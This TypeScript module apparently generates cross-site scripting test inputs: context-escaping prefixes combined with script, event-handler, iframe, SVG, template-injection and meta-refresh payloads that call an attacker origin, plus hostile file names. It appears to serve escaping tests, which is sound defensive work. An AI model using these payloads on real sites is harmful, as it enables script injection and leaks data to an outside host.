/** Text that closes the element or attribute that contains it, and so may break out of it. */
const BEGINNINGS = [
  ...['', '"', "'", '-->', '</title>', '</style>', '</textarea></script>', '</span></td></tr></table>'],
  ...['</blockquote></details>', ']]>', '\\"', '</pre></code>'],
];

/**
 * Markup that runs a script or loads an external resource in a browser that receives it unescaped.
 *
 * @param origin of the attacker
 */
function vectors(origin: string): string[] {
  const run = "globalThis.owned=fetch('" + origin + "/ran')";
  return [
    `<script>${run}</script>`,
    `<script src="${origin}/script.js"></script>`,
    `<ScRiPt/x>${run}</sCrIpT>`,
    `<img src=x onerror="${run}">`,
    `<img src="${origin}/image.png">`,
    `<svg/onload="${run}">`,
    `<svg><image href="${origin}/svg.png"/></svg>`,
    `<iframe src="javascript:parent.${run.replace('globalThis.', '')}"></iframe>`,
    `<iframe srcdoc="&lt;script&gt;parent.owned=1&lt;/script&gt;"></iframe>`,
    `<iframe src="${origin}/frame"></iframe>`,
    `<object data="${origin}/object"></object>`,
    `<embed src="${origin}/embed">`,
    `<link rel=stylesheet href="${origin}/style.css">`,
    `<style>@import "${origin}/import.css";</style>`,
    `<p style="background:url(${origin}/background.png)">`,
    `<body onload="${run}">`,
    `<details open ontoggle="${run}"><summary>x</summary></details>`,
    `<input autofocus onfocus="${run}">`,
    `<video autoplay><source src="${origin}/video.mp4" onerror="${run}"></video>`,
    `<audio src=x onerror="${run}">`,
    `<base href="${origin}/"><img src=based.png>`,
    `<math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
    `<noscript><p title="</noscript><img src=x onerror='${run.replaceAll("'", '`')}'>">`,
    `<meta http-equiv=refresh content="0;url=${origin}/refresh">`,
    `<a href="javascript:${run}">x</a>`,
    `{{{constructor.constructor("${run.replaceAll('"', "'")}")()}}}`,
    `\${${run}}<%=${run}%>`,
  ];
}

/** A few hundred texts, each of which tries to be interpreted as more than text. */
export function hostileTexts(origin: string): string[] {
  return BEGINNINGS.flatMap((beginning) => vectors(origin).map((vector) => `${beginning}${vector}`));
}

/** Those that are valid file names, at most as many as a page shows the changes of. */
export function hostileNames(texts: readonly string[]): string[] {
  const names = texts.map((text) => text.replaceAll('/', '\u2215')).filter((name) => Buffer.byteLength(name) < 200);
  return [
    ...new Set([
      ...names.slice(0, 250),
      '<img src=x onerror=owned=1>',
      '"><script>owned=1<\u2215script>',
      '<svg onload=owned=1>',
    ]),
  ];
}
